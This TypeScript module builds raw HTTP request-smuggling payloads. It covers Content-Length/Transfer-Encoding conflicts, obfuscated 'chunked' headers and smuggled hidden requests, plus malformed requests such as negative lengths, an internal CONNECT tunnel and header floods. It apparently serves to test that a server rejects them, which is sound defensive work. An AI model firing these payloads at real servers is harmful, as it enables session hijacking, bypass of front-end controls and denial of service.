import { head } from './raw-request';

/** What the victim shall not see: a request hidden in another one's body. */
export interface Hidden {
  readonly host: string;
  /** Header of the session of who sends it. */
  readonly cookie: string;
  readonly path: string;
  /** Path of the hidden request, which has no session. */
  readonly hiddenPath: string;
}

const FORM = 'Content-Type: application/x-www-form-urlencoded';

const post = ({ host, cookie, path }: Hidden, ...lines: readonly string[]): string =>
  head(`POST ${path} HTTP/1.1`, `Host: ${host}`, cookie, FORM, ...lines);

const hidden = ({ host, hiddenPath }: Hidden): string =>
  head(`GET ${hiddenPath} HTTP/1.1`, `Host: ${host}`, 'Connection: close');

/** A body that ends at once for who reads chunks, and holds the hidden request for who counts bytes. */
const endsAtOnce = (request: Hidden, ...encoding: readonly string[]): string => {
  const body = `0\r\n\r\n${hidden(request)}`;
  return post(request, `Content-Length: ${body.length}`, ...encoding) + body;
};

type Attack = (request: Hidden) => string;

/** Requests that two readers could take apart differently, and that HTTP lets be read in one way only. */
export const AMBIGUOUS: Readonly<Record<string, Attack>> = {
  'a length besides chunks, and a request after the last chunk': (request) =>
    endsAtOnce(request, 'Transfer-Encoding: chunked'),
  'the same with chunked in capitals': (request) => endsAtOnce(request, 'Transfer-Encoding: CHUNKED'),
  'the same with chunked on a line of its own': (request) =>
    endsAtOnce(request, 'Transfer-Encoding:\r\n chunked'),
  'a short length besides chunks, and a request in a chunk': (request) => {
    const inner = hidden(request);
    const chunk = `${inner.length.toString(16)}\r\n${inner}\r\n0\r\n\r\n`;
    return post(request, 'Content-Length: 4', 'Transfer-Encoding: chunked', 'Connection: close') + chunk;
  },
};

/** Requests that no server may accept. */
export const MALFORMED: Readonly<Record<string, Attack>> = {
  'a coding that does not exist': (request) => endsAtOnce(request, 'Transfer-Encoding: xchunked'),
  'chunked and no coding': (request) => endsAtOnce(request, 'Transfer-Encoding: chunked, identity'),
  'no coding and chunked': (request) => endsAtOnce(request, 'Transfer-Encoding: identity, chunked'),
  'chunked in quotes': (request) => endsAtOnce(request, 'Transfer-Encoding: "chunked"'),
  'chunked after a tabulator of the wrong kind': (request) =>
    endsAtOnce(request, 'Transfer-Encoding: \x0bchunked'),
  'two codings in two headers': (request) =>
    endsAtOnce(request, 'Transfer-Encoding: chunked', 'Transfer-Encoding: identity'),
  'a blank before the colon': (request) => endsAtOnce(request, 'Transfer-Encoding : chunked'),
  'a carriage return in a value': (request) => endsAtOnce(request, 'X: a\rTransfer-Encoding: chunked'),
  'a zero byte in a value': (request) => endsAtOnce(request, 'X: a\0b'),
  'two lengths': (request) => {
    const inner = hidden(request);
    return post(request, 'Content-Length: 0', `Content-Length: ${inner.length}`) + inner;
  },
  'a list of lengths': (request) => `${post(request, 'Content-Length: 3, 3')}a=b`,
  'a length with a sign': (request) => `${post(request, 'Content-Length: +3')}a=b`,
  'a negative length': (request) => `${post(request, 'Content-Length: -1')}a=b`,
  'a chunk whose size is no number': (request) =>
    `${post(request, 'Transfer-Encoding: chunked')}3 z\r\na=b\r\n0\r\n\r\n`,
  'a blank in the path': (request) =>
    head(`GET ${request.path} x HTTP/1.1`, `Host: ${request.host}`, request.cookie),
  'a version that does not exist': (request) =>
    head(`GET ${request.path} HTTP/3.0`, `Host: ${request.host}`, request.cookie),
  'no version': (request) => `GET ${request.path}\r\n\r\n`,
  'a tunnel': (request) => head('CONNECT 10.43.0.1:443 HTTP/1.1', 'Host: 10.43.0.1:443', request.cookie),
  'a header of 2 MiB': (request) =>
    head(
      `GET ${request.path} HTTP/1.1`,
      `Host: ${request.host}`,
      request.cookie,
      `X: ${'a'.repeat(2 ** 21)}`,
    ),
  '40000 headers': (request) =>
    head(
      `GET ${request.path} HTTP/1.1`,
      `Host: ${request.host}`,
      request.cookie,
      ...Array.from({ length: 40_000 }, (_, index) => `X-${index}: ${'a'.repeat(30)}`),
    ),
  'what is no HTTP': () => '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n',
};
